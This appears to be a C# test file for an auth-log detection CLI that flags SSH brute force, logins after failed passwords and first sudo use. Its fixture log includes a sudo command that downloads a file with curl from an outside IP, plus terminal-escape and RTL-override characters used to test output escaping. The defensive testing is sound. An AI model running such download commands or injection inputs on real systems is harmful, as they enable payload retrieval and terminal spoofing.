using System.Text.Json;
using LogParsing.Cli;
using LogParsing.Tests.Analysis.Detections;
using Snapshooter.Xunit3;

namespace LogParsing.Tests.Cli;

/// <summary><c>authlog detect</c>, in-process and as a real process, on the bundled samples and on real files built for a rule.</summary>
public class CliDetectTests
{
    // Five wrong passwords and the sixth attempt let in (auth2.c forms), and a first sudo: three rules in a dozen lines.
    private static string AttackLog()
    {
        var log = new DetectionLog();
        for (var i = 0; i < 5; i++) log.At(i * 7, $"Failed password for root from 203.0.113.5 port {50000 + i} ssh2");
        log.At(60, "Accepted password for root from 203.0.113.5 port 50100 ssh2");
        log.At(90, "    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://198.51.100.9/x", "sudo");
        return log.ToString();
    }

    private static List<JsonElement> Lines(string output) =>
        [.. output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement)];

    [Fact]
    public async Task Detect_on_the_samples_merges_fail2ban_bans_by_time_as_ndjson()
    {
        var samples = Path.GetDirectoryName(Fixture.Sample("auth.log"))!;
        var (exit, output, error) = await CliTests.Run("detect", samples, "--year", "2021", "--tz", "UTC");
        Assert.True(exit == 0, error);
        var lines = Lines(output);
        // docs/samples/fail2ban.log has 15 bans; the sample auth.log is 19 sources that each knock once or twice.
        Assert.Equal(15, lines.Count);
        Assert.All(lines, l => Assert.Equal("fail2ban-ban", l.GetProperty("rule_id").GetString()));
        Assert.Equal("209.141.36.197", lines[0].GetProperty("source").GetString());
    }

    [Fact]
    public async Task Detect_as_text_is_a_table_of_the_rules_that_fired()
    {
        using var dir = new TempDir();
        var path = dir.File("auth.log", AttackLog());
        var (exit, output, error) = await CliTests.Run("detect", path, "--year", "2021", "--tz", "UTC", "--format", "text");
        Assert.True(exit == 0, error);
        Snapshot.Match(output.Replace(path, "auth.log"));
    }

    [Fact]
    public async Task Detect_as_ecs_writes_alerts_with_rule_severity_source_users_and_span()
    {
        using var dir = new TempDir();
        var path = dir.File("auth.log", AttackLog());
        var (exit, output, _) = await CliTests.Run("detect", path, "--year", "2021", "--tz", "UTC", "--format", "ecs");
        Assert.Equal(0, exit);
        var login = Assert.Single(Lines(output), l => l.GetProperty("rule").GetProperty("id").GetString() == "login-after-failures");
        Assert.Equal(
            ("alert", 99, "203.0.113.5", "root", "root", "2021-05-31T07:00:00+00:00", "2021-05-31T07:01:00+00:00"),
            (login.GetProperty("event").GetProperty("kind").GetString(), login.GetProperty("event").GetProperty("severity").GetInt32(),
             login.GetProperty("source").GetProperty("ip").GetString(), login.GetProperty("user").GetProperty("name").GetString(),
             login.GetProperty("related").GetProperty("user")[0].GetString(), login.GetProperty("event").GetProperty("start").GetString(),
             login.GetProperty("event").GetProperty("end").GetString()));
        Assert.Equal("Login after failures", login.GetProperty("rule").GetProperty("name").GetString());
    }

    [Fact]
    public async Task Detect_follow_reports_appended_attacks_and_not_what_the_history_showed()
    {
        using var dir = new TempDir();
        // History: alice has used sudo before the follow starts, so her next sudo is not news.
        var path = dir.File("auth.log", "May 31 06:00:00 nimbus sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n");
        using var cli = new LiveCli("detect", path, "--follow", "--year", "2021", "--tz", "UTC", "--format", "text");
        await cli.Started();
        File.AppendAllText(path, "May 31 07:00:00 nimbus sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id\n"
            + "May 31 07:00:01 nimbus sudo:  mallory : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh\n"
            + string.Concat(Enumerable.Range(0, 5).Select(i => $"May 31 07:00:1{i} nimbus sshd[{100 + i}]: Failed password for root from 203.0.113.5 port {50000 + i} ssh2\n")));
        await LiveCli.Until(() => cli.Output.Contains("ssh-brute-force"));
        Assert.Equal(0, await cli.Stop());
        Assert.Contains("sudo-first-use mallory", cli.Output);
        Assert.DoesNotContain("alice", cli.Output);
    }

    [Fact]
    public async Task Attacker_text_in_a_detection_is_escaped_on_the_terminal()
    {
        using var dir = new TempDir();
        var path = dir.File("auth.log", "May 31 07:00:00 nimbus sudo:    ad\u202Enimda : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/echo \u001b[2J\n");
        var (exit, output, _) = await CliTests.Run("detect", path, "--year", "2021", "--format", "text");
        Assert.Equal(0, exit);
        Assert.DoesNotContain('\u001b', output);
        Assert.DoesNotContain('\u202E', output);
        Assert.Contains("ad\\u{202E}nimda", output);
    }

    [Theory]
    [InlineData("detect", "--format", "xml")]
    [InlineData("detect", "--follow", "a.log", "b.log")]
    public async Task Bad_arguments_exit_with_2(params string[] args)
    {
        var (exit, _, error) = await CliTests.Run(args);
        Assert.Equal(2, exit);
        Assert.StartsWith("authlog: ", error);
    }

    [Fact]
    public async Task A_missing_file_exits_with_1()
    {
        var (exit, _, error) = await CliTests.Run("detect", "/no/such/auth.log");
        Assert.Equal(1, exit);
        Assert.Contains("/no/such/auth.log", error);
    }

    [Fact]
    public async Task The_summary_counts_detections_by_rule()
    {
        using var dir = new TempDir();
        var path = dir.File("auth.log", AttackLog());
        var (exit, output, _) = await CliTests.Run("summary", path, "--year", "2021", "--tz", "UTC");
        Assert.Equal(0, exit);
        var section = output[output.IndexOf("Detections (3;", StringComparison.Ordinal)..];
        Assert.Contains("login-after-failures", section);
        Assert.Contains("ssh-brute-force", section);
        Assert.Contains("sudo-first-use", section);
    }
}
